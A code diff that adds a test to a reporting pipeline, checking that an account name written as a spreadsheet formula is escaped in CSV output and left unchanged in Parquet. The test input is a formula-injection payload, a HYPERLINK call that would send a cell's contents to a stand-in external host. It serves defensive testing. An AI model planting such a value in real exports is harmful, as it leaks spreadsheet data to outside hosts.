@@ -137,6 +137,22 @@ def test_parquet_has_the_types_that_each_reader_wants(app: App, tmp_path: Any) -
     assert total == Decimal(sum(range(1, 20)) * 1_010_000 + sum(range(1, 20, 2)) * 20_000) / 1_000_000
 
 
+def test_no_name_is_a_formula_for_a_spreadsheet_and_parquet_has_it_as_it_is(app: App, tmp_path: Any) -> None:
+    hostile = META.model_copy(update={"name": '=HYPERLINK("https://x.example?"&A1)'})
+    pull(app, hostile, "all", WINDOW, *(ad_day("g~1", day, -1_000_000) for day in range(1, 20)))
+    (manifest,) = publisher(app, hostile).publish("acme")
+    files = manifest["files"]["ad_reporting"]
+
+    rows = list(csv.DictReader(lines_of(app, files)))
+
+    assert {row["account_name"] for row in rows} == {f"'{hostile.name}"}
+    assert {row["spend"] for row in rows if row["ad_id"]} == {"-1"}
+    parquet = tmp_path / "x.parquet"
+    parquet.write_bytes(app.raw.get_bytes(files["parquet"]["key"]))
+    table = duckdb.read_parquet(str(parquet))
+    assert set(table.project("account_name").fetchall()) == {(hostile.name,)}
+
+
 def test_building_twice_gives_the_same_bytes(app: App) -> None:
     two_platforms(app)
     once = publisher(app, META, AMAZON).publish("acme")
